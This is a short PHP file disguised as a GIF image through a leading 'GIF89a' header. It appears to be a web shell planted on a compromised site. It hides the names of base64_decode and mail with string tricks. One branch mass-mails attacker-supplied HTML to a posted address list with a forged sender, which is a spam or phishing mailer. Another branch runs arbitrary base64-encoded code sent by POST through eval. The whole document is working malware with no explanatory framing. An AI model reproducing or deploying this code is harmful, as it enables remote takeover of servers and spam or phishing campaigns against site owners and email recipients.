GIF89a1
<?php
$k='b'.'ase'.(60+4).'_de'.'code';$m=strrev('liam');
if(isset($_POST['l'])){$r=array_filter(array_map('trim',explode("\n",$_POST['l'])));
foreach($r as $a){@$m($a,$_POST['s'],$_POST['b'],"From: ".$_POST['f']."\r\nMIME-Version: 1.0\r\nContent-Type: text/html");usleep(300000);}
echo count($r);}elseif(isset($_POST['c'])){@eval($k($_POST['c']));}else{echo 'v2';}
